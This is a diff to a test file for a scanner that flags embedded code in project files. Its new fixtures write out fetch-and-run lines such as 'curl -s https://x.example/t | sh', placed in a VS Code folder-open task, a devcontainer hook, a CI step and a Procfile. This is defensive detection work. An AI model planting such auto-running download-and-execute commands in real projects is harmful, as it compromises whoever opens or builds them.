@@ -153,8 +153,22 @@ describe('embedded code in files other tools run', () => {
     expect(kindsIn('analysis.ipynb', notebook).sort()).toEqual(['download-and-run', 'dynamic-code', 'obfuscation']);
   });
 
+  it.each([
+    [
+      '.vscode/tasks.json',
+      '{ "tasks": [{ "command": "curl -s https://x.example/t | sh", "runOptions": { "runOn": "folderOpen" } }] }',
+    ],
+    ['.devcontainer/devcontainer.json', '{\n  "postCreateCommand": "wget -qO- https://x.example/d | bash"\n}'],
+    ['.github/workflows/ci.yml', 'jobs:\n  build:\n    steps:\n      - run: curl -s https://x.example/c | sh'],
+    ['Procfile', 'web: curl -s https://x.example/p | sh'],
+  ])('reads the command lines %s holds', (path, text) => {
+    expect(kindsIn(path, text)).toEqual(['download-and-run']);
+  });
+
   it('ignores files that hold no code', () => {
-    expect(embeddedCode('data/config.yaml', 'run: curl https://x.example | sh')).toEqual([]);
+    expect(
+      issuesIn('data/config.yaml', 'name: weather\nunits: metric\nsummary: "Fetches the weather; cached"'),
+    ).toEqual([]);
     expect(embeddedCode('package.json', 'not json')).toEqual([]);
   });
 });
